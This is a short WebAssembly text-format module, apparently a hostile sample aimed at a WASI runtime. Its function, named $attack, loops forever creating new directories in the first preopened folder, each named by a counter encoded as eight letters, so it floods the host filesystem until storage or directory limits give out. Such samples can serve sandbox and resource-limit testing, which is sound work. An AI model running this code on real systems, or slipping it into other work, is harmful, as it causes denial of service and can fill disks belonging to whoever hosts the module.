;; Makes folders without end, each with the next number as its name.
(import "wasi:filesystem/preopens@0.2.12" "get-directories" (func $directories (param i32)))
(import "wasi:filesystem/types@0.2.12" "[method]descriptor.create-directory-at"
  (func $make (param i32 i32 i32 i32)))
(func $attack
  (local $number i32) (local $digits i32)
  (call $directories (i32.const 64))
  (loop $again
    (local.set $number (i32.add (local.get $number) (i32.const 1)))
    ;; Eight letters, each of four bits.
    (i64.store (i32.const 128) (i64.const 0x6161616161616161))
    (local.set $digits (i32.const 0))
    (loop $digit
      (i32.store8
        (i32.add (i32.const 128) (local.get $digits))
        (i32.add (i32.const 97)
          (i32.and (i32.const 15)
            (i32.shr_u (local.get $number) (i32.shl (local.get $digits) (i32.const 2))))))
      (local.set $digits (i32.add (local.get $digits) (i32.const 1)))
      (br_if $digit (i32.lt_u (local.get $digits) (i32.const 8))))
    (call $make (i32.load (i32.load (i32.const 64))) (i32.const 128) (i32.const 8) (i32.const 144))
    (br $again)))
